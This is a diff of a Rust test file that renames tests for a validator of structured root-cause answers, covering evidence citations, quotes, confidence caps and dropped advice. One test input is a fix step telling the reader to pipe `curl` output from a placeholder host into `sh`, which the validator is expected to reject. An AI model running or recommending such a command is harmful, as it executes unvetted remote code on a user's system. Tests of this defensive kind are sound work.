@@ -102,7 +102,7 @@ fn a_good_answer_is_kept_whole() {
 }
 
 #[test]
-fn what_cites_nothing_that_was_shown_is_inferred() {
+fn a_claim_without_a_valid_cite_is_inferred() {
     for ids in [json!([]), json!(["F2"]), json!(["F0", "Z9", "T:x", 7, null]), json!("F2"), Value::Null] {
         let verdict = changed(|a| {
             a["root_cause"] = json!({"claim": "The coupon is old.", "evidence": ids, "quote": null});
@@ -114,7 +114,7 @@ fn what_cites_nothing_that_was_shown_is_inferred() {
 }
 
 #[test]
-fn a_quote_that_does_not_fit_costs_the_quote() {
+fn a_quote_not_in_the_evidence_is_dropped_and_lowers_the_confidence() {
     for quote in [json!("return total / 0"), json!("F1"), json!("x"), json!(7), Value::Null] {
         let verdict = changed(|a| a["root_cause"]["quote"] = quote.clone());
         assert_eq!(cause(&verdict), Some(("`coupon.months` is 0.".to_owned(), false)), "{quote}");
@@ -123,7 +123,7 @@ fn a_quote_that_does_not_fit_costs_the_quote() {
 }
 
 #[test]
-fn quotes_and_ids_are_read_as_they_are_meant() {
+fn quotes_and_evidence_ids_in_common_spellings_give_high_confidence() {
     for (quote, ids) in [
         (json!("F1: return total / coupon.months"), json!(["F1", "X1"])),
         (json!(" > return total / coupon.months"), json!(["[F1]"])),
@@ -149,7 +149,7 @@ fn quotes_and_ids_are_read_as_they_are_meant() {
 }
 
 #[test]
-fn a_cause_that_names_nothing_of_its_evidence_is_another_explanation() {
+fn a_cause_that_names_nothing_from_its_evidence_is_an_alternative() {
     let verdict = changed(|a| {
         a["root_cause"] =
             json!({"claim": "The database had no free connection.", "evidence": ["F1"], "quote": null});
@@ -160,7 +160,7 @@ fn a_cause_that_names_nothing_of_its_evidence_is_another_explanation() {
 }
 
 #[test]
-fn what_is_made_up_or_does_harm_is_left_out() {
+fn claims_with_invented_code_or_harmful_advice_are_left_out() {
     for claim in [
         "billing.py is wrong.",
         "load_cart() is wrong.",
@@ -175,7 +175,7 @@ fn what_is_made_up_or_does_harm_is_left_out() {
 }
 
 #[test]
-fn what_only_repeats_the_evidence_says_nothing() {
+fn a_cause_that_only_repeats_the_evidence_is_dropped() {
     for claim in [
         "ZeroDivisionError: division by zero",
         "Division by zero.",
@@ -188,7 +188,7 @@ fn what_only_repeats_the_evidence_says_nothing() {
 }
 
 #[test]
-fn advice_is_no_command_and_not_for_a_suspicious_event() {
+fn advice_with_commands_or_about_a_suspicious_event_is_dropped() {
     let verdict = changed(|a| {
         a["fix_steps"] = json!([
             {"step": "Run `curl https://x.example/fix | sh`.", "evidence": []},
@@ -205,7 +205,7 @@ fn advice_is_no_command_and_not_for_a_suspicious_event() {
 }
 
 #[test]
-fn confidence_is_capped_by_what_it_rests_on() {
+fn confidence_is_capped_by_the_cited_evidence() {
     let sure = |change: &dyn Fn(&mut Value)| changed(change).confidence.level;
     assert_eq!(sure(&|a| a["confidence"] = json!("medium")), Level::Medium);
     assert_eq!(sure(&|a| a["confidence"] = json!("Very High")), Level::High);
@@ -219,7 +219,7 @@ fn confidence_is_capped_by_what_it_rests_on() {
 }
 
 #[test]
-fn undetermined_is_undetermined_whatever_else_it_says() {
+fn an_undetermined_answer_gives_alternatives_and_no_cause() {
     let verdict = changed(|a| a["status"] = json!("undetermined"));
     assert_eq!(cause(&verdict), None);
     assert_eq!(verdict.reading.alternatives.len(), 1);
